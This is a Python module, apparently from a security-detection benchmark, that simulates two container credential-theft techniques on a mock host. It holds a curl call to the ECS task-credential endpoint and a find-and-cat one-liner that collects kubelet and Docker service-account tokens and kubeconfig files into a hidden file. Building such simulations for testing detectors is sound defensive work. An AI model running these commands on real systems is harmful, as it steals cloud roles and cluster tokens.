"""Attacks on what the orchestrator lends to its containers: roles and tokens (TA0006)."""

from __future__ import annotations

from benchmarks.attacks import Host
from benchmarks.known import scene


def task_credentials(host: Host) -> None:
    """T1552.005: the application, made to by a request, asks the endpoint that lends roles to containers."""
    row = scene.work(host)
    pid = scene.spawn(
        host, "/usr/bin/curl", "curl -s http://169.254.170.2/v2/credentials/1b6f0d0e", uid=row["uid"], parent=row["pid"], age_s=1
    )  # fmt: skip
    scene.connect(host, pid, "169.254.170.2", 80)


def pod_tokens(host: Host) -> None:
    """T1528, T1552.001: root walks through the folders of kubelet, or of the engine, for the tokens of service accounts."""
    sh = scene.spawn(
        host, scene.shell(host), "sh -c find /var/lib/kubelet/pods /var/lib/docker -name token -o -name '*kubeconfig*' | xargs cat > /var/tmp/.t",
        name="sh", age_s=11,
    )  # fmt: skip
    scene.spawn(host, "/usr/bin/find", "find /var/lib/kubelet/pods /var/lib/docker -name token -o -name *kubeconfig*", parent=sh, age_s=11)  # fmt: skip
    scene.put(host, "/var/tmp/.t", mode="0600", age_s=9)


ATTACKS = (task_credentials, pod_tokens)
